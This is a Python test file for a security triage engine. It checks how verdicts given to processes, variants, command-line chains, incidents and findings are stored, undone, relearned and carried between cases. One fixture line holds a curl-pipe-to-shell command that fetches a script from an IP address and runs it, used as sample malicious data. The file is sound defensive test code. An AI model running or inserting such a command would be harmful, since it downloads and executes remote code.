"""Verdicts of any scope and history as learners read them: by variant, from what each process says."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.classifier.trust import WHOLE
from engine.domain.verdicts import VERDICTS, Verdict
from engine.jobs.relearn import prepare, relearn
from engine.progress import Run
from engine.words.command_shape import shape_number
from store.scope.scopes import Scope
from store.scope.told import said
from store.verdicts.subject import OfChain, OfFinding, OfIncident, OfProcess, OfVariant
from store.workspace import Workspace, open_workspace
from tests.store import samples
from tests.store.teaching_samples import read_learnt, said_of_variants, words

KINDS = ("process", "variant", "host", "chain", "incident", "finding")
COMMANDS = ("sh -c 'debian-sa1 1 1'", "sh -c 'curl http://203.0.113.9/x | sh'", None)


@pytest.fixture(scope="module")
def shells(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """Two chains on two hosts, each with two kinds of command lines and none."""
    space = open_workspace(tmp_path_factory.mktemp("shells") / "w")
    events = []
    for host in ("WEB01", "DB02"):
        events.append(samples.event(1, host=host, image="C:\\Apps\\cron.exe"))
        for number in range(2, 26):
            image = f"C:\\Apps\\sh{number % 2}.exe"
            events.append(samples.event(number, 1, host=host, image=image, command_line=COMMANDS[number % 3]))
    samples.fill(space, events)
    samples.score(space, grouped=True)
    yield space
    space.close()


@settings(max_examples=30, deadline=None)
@given(
    acts=st.lists(
        st.one_of(
            st.tuples(st.sampled_from(KINDS), st.integers(0, 60), st.sampled_from(VERDICTS)),
            st.sampled_from(["undo", "redo"]),
        ),
        max_size=8,
    )
)  # fmt: skip
def test_what_is_read_of_variants_is_what_each_process_says(shells: Workspace, acts: list[Any]) -> None:
    """Of every scope and any history: by variant what the processes say one by one, without a queue and with one."""
    forget(shells)
    base = shells.teaching.load_queue("case")
    chains = [key for key in base.corpus.keys if key]
    with shells.read() as connection:
        processes = [row[0] for row in connection.exec_driver_sql("SELECT id FROM process WHERE merged_into IS NULL ORDER BY id")]
        incidents = connection.exec_driver_sql("SELECT finding, place FROM incident ORDER BY finding, place").all()
    variants = [(base.corpus.keys[base.variants.chain[row]], int(base.variants.shape[row])) for row in range(len(base.variants))]
    for act in acts:
        if isinstance(act, str):
            getattr(shells.labels, act)("case")
            continue
        kind, number, verdict = act
        on: Any = {
            "process": lambda at: OfProcess(processes[at % len(processes)]),
            "variant": lambda at: OfVariant(*variants[at % len(variants)]),
            "host": lambda at: OfChain(chains[at % len(chains)], Scope(host=("WEB01", "DB02")[at % 2])),
            "chain": lambda at: OfChain(chains[at % len(chains)]),
            "incident": lambda at: OfIncident(*incidents[at % len(incidents)]),
            "finding": lambda at: OfFinding(incidents[at % len(incidents)][0]),
        }[kind](number)
        shells.labels.give("case", on, verdict, overwrite=number % 2 == 0)
    wanted = said_of_variants(shells)
    found = shells.teaching.load_verdicts("case", base)
    assert words(base, found) == wanted
    with shells.read() as connection:
        told_now = said(connection, 1, chains)
    assert {name: told_now.of(*name) for name in variants} == {name: wanted.get(name, "") for name in variants}
    by_key = shells.teaching.said("case")
    whole = {key: one.verdict for (key, shape), one in by_key.items() if shape == WHOLE}
    spread = {name: whole[name[0]] for name in variants if name[0] in whole}
    apart = {name: one.verdict for name, one in by_key.items() if name[1] != WHOLE}
    assert spread | apart == {name: word for name, word in wanted.items() if word}


def forget(workspace: Workspace) -> None:
    with workspace.write() as connection:
        for table in ("label_event", "label_current", "process_verdict", "learnt_queue"):
            connection.exec_driver_sql(f"DELETE FROM {table}")
        connection.commit()


def test_a_verdict_on_an_incident_is_one_on_what_is_odd_in_it(shells: Workspace) -> None:
    """The pairs of the finding are decided, and other findings with the same variants are not."""
    forget(shells)
    base = shells.teaching.load_queue("case")
    several = np.bincount(base.variants.finding)
    number = int(np.argmax(several))
    shells.labels.give("case", OfFinding(number), "malicious")
    found = shells.teaching.load_verdicts("case", base)
    pairs = np.flatnonzero(base.variants.finding == number)
    assert found.pair.tolist() == pairs.tolist()
    assert set(found.pair_verdict.tolist()) == {Verdict.MALICIOUS}
    assert set(found.malicious.tolist()) == set(base.variants.variant[pairs].tolist())
    assert set(found.finding[found.teaches].tolist()) == {number}


def test_when_all_is_taken_back_there_is_no_learnt_order_as_before_the_first_verdict(shells: Workspace) -> None:
    forget(shells)
    assert not shells.learnt.standing("case").stale
    shells.labels.give("case", OfFinding(1), "malicious")
    relearn("case", shells.teaching, prepare("case", shells.teaching, shells.vault, Run()), Run())
    assert shells.learnt.index("case") is not None
    assert not shells.learnt.standing("case").stale
    shells.labels.undo("case")
    standing = shells.learnt.standing("case")
    assert (standing.known, standing.wanted, standing.stale) == (True, False, True)
    relearn("case", shells.teaching, prepare("case", shells.teaching, shells.vault, Run()), Run())
    assert shells.learnt.index("case") is None
    assert read_learnt(shells, "case") is None
    standing = shells.learnt.standing("case")
    assert (standing.known, standing.wanted, standing.stale) == (False, False, False)


def test_what_is_remembered_of_another_case_is_what_its_chains_were_there(workspace: Workspace) -> None:
    """A verdict on a chain is remembered by the shapes of its command lines, one on a process by its own."""
    for case, mark in (("case", "a"), ("near", "b")):
        events = [
            samples.event(1, command_line="cron -f"),
            *(samples.event(n, 1, command_line=COMMANDS[n % 2]) for n in range(5, 25, 5)),
        ]
        samples.fill(workspace, events, case=case, path=case, sha256=mark * 64)
    model = samples.score(workspace, "case", grouped=True)
    samples.score(workspace, "near", model=model, grouped=True)
    keys = {row.steps: row.key for row in workspace.queue.page("near")}
    root, below = min(keys, key=len), max(keys, key=len)
    workspace.labels.set("near", [keys[root]], "false_positive")
    with workspace.read() as connection:
        query = "SELECT p.id FROM process p JOIN string s ON s.id = p.command WHERE s.text = ? AND p.id >> 32 = 2"
        fetched = connection.exec_driver_sql(query, (COMMANDS[1],)).scalars().first()
    workspace.labels.give("near", OfProcess(fetched), "malicious")
    assert set(workspace.teaching.load_remembered("case", model).chains) == {
        (root, shape_number("cron -f"), Verdict.FALSE_POSITIVE, "case near"),
        (below, shape_number(COMMANDS[1] or ""), Verdict.MALICIOUS, "case near"),
    }
